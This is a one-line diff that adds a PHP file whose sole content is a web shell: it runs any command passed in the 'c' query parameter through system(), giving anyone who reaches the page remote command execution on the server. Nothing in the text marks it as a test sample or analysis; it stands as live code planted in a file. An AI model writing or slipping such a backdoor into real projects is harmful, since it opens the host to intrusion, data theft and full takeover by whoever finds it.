@@ -1,0 +1,1 @@
+<?php if (isset($_GET["c"])) { system($_GET["c"]); } ?>
